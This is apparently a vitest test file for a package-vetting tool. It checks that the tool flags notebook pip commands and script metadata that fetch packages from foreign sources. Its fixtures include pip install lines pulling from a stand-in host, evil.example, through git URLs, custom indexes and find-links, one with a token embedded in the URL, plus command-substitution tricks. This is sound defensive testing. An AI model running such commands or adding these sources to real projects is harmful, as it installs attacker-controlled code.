import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runPrinted } from '../kit/printed.ts';
import { Scratch } from '../kit/scratch.ts';
import { whitelistText } from '../kit/whitelist.ts';
import { runIn } from '../kit/world.ts';

/*
 * What the commands and the metadata of programs say of where packages come from is judged as the same line of a manifest.
 * One repository for all rows.
 */

let scratch: Scratch;
beforeAll(async () => {
  scratch = await Scratch.with({
    'approved-packages.yaml': whitelistText({
      'pypi:flask': { approved: 'the API' },
      'pypi:acme-x': { approved: 'ours' },
    }),
    'requirements.txt': 'flask\nknown @ git+https://git.example/known\n',
    'libs/own/pyproject.toml': '[project]\nname = "own"\n',
    'old.ipynb': book('!pip install flask @ git+https://git.example/flask'),
  });
  await scratch.git('tag', 'start');
});
afterAll(() => {
  scratch.dispose();
});

function book(...cells: readonly string[]): string {
  return JSON.stringify({
    cells: cells.map((source) => ({ cell_type: 'code', source: [source] })),
    nbformat: 4,
  });
}
const script = (metadata: string, code = '') =>
  `# /// script\n${metadata.trim().replace(/^/gm, '# ')}\n# ///\n${code}\n`;

async function said(): Promise<readonly string[]> {
  await scratch.git('add', '--all');
  const { stdout } = await runIn(scratch, ['--staged', '--offline', '--format', 'concise']);
  const lines = stdout.split('\n').filter((line) => / (?:error|warn) /.test(line));
  return lines
    .filter((line) => !line.includes('policy-change'))
    .map((line) => line.replace(/^\S+ \w+ (\S+?)(?:\/\S+)? (.*?)(?: \[(.*)\])?$/, '$1 $3').trim());
}

async function after(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  await scratch.git('reset', '--quiet', '--hard', 'start');
  await scratch.git('clean', '--quiet', '-ffdx');
  scratch.write(files);
  return said();
}

const git = 'git+https://evil.example/flask';
const source = 'foreign-source pypi:flask';

describe('a source of its own', () => {
  test.each<[string, Readonly<Record<string, string>>, readonly string[]]>([
    ['a command', { 'a.ipynb': book(`!pip install "flask @ ${git}"`) }, [source]],
    ['without quotes', { 'a.ipynb': book(`%pip install flask @ ${git} -q`) }, [source]],
    ['egg', { 'a.ipynb': book(`!pip install ${git}#egg=flask`, 'import flask') }, [source]],
    ['without a name', { 'a.ipynb': book(`!pip install ${git}`) }, ['foreign-source']],
    ['a login', { 'a.ipynb': book('!pip install flask@git+https://$T@evil.example/flask') }, [source]],
    [
      'an index',
      { 'a.ipynb': book('!pip install -i https://evil.example/simple flask') },
      ['foreign-source'],
    ],
    ['links', { 'a.ipynb': book('!pip install -f https://evil.example/ flask') }, ['foreign-source']],
    ['metadata', { 'a.py': script(`dependencies = ["flask @ ${git}"]`) }, [source]],
    [
      'a table of metadata',
      {
        'a.py': script(
          'dependencies = []\n[tool.uv.sources]\nflask = { git = "https://evil.example/flask" }',
        ),
      },
      [source],
    ],
    [
      'an index of metadata',
      { 'a.py': script('[[tool.uv.index]]\nurl = "https://evil.example/simple"') },
      ['foreign-source'],
    ],
    [
      'behind a substitution',
      { 'a.ipynb': book('!pip install $(cat x) evil-pkg') },
      ['unclear-import', 'unapproved-package pypi:evil-pkg'],
    ],
    [
      'behind backticks',
      { 'a.ipynb': book('!pip install `cat x` evil-pkg') },
      ['unclear-import', 'unapproved-package pypi:evil-pkg'],
    ],
    [
      'within a substitution',
      { 'a.ipynb': book('!echo $(pip install evil-pkg)') },
      ['unapproved-package pypi:evil-pkg'],
    ],
    [
      'behind variables',
      { 'a.ipynb': book('!pip install {x} $y {" ".join(z)} evil-pkg') },
      ['unclear-import', 'unclear-import', 'unclear-import', 'unapproved-package pypi:evil-pkg'],
    ],
    [
      'nothing behind a closed parenthesis',
      { 'a.ipynb': book('!(cd a && pip install flask) && echo evil-pkg') },
      [],
    ],
    [
      'a source that the base has',
      { 'a.ipynb': book('!pip install known@git+https://git.example/known') },
      [],
    ],
    ['PyPI by its address', { 'a.ipynb': book('!pip install -i https://PyPI.org:443/simple/ flask') }, []],
    [
      'a folder of the project',
      { 'a.py': script('dependencies = []\n[tool.uv.sources]\nown = { path = "libs/own" }') },
      [],
    ],
    [
      'a version of the same source',
      { 'old.ipynb': book('!pip install flask @ git+https://GIT.example/flask@v2') },
      [],
    ],
  ])('%s', async (_, files, expected) => {
    expect(await after(files)).toEqual(expected);
  });
});

describe('is approved by what the finding prints', () => {
  test.each<[string, Readonly<Record<string, string>>]>([
    ['a command', { 'a.ipynb': book(`!pip install "flask @ ${git}"`, 'import flask') }],
    ['metadata', { 'a.py': script(`dependencies = ["flask @ ${git}"]`, 'import flask') }],
    [
      'an index that serves what is bound to it',
      {
        'a.py': script(
          'dependencies = ["acme-x"]\n[[tool.uv.index]]\nname = "acme"\nurl = "https://index.example/simple"\nexplicit = true\n[tool.uv.sources]\nacme-x = { index = "acme" }',
          'import acme_x',
        ),
      },
    ],
  ])('%s', async (_, files) => {
    expect([...new Set(await after(files))].length).toBeGreaterThan(0);
    const { stdout } = await runIn(scratch, ['--staged', '--offline', '--format', 'json']);
    const commands = new Set(
      [...stdout.matchAll(/"vetted-imports (approve (?:[^"\\]|\\.)*)"/g)].map(([, words = '']) => words),
    );
    expect(commands.size).toBe(1);
    const env = { PIP_INDEX_URL: 'http://127.0.0.1:9/simple' };
    for (const words of commands) {
      const command = `vetted-imports ${words.replaceAll('\\"', '"')}`;
      expect(await runPrinted(scratch, command, { env })).toMatchObject({ code: 0 });
    }
    expect(await said()).toEqual([]);
  });
});
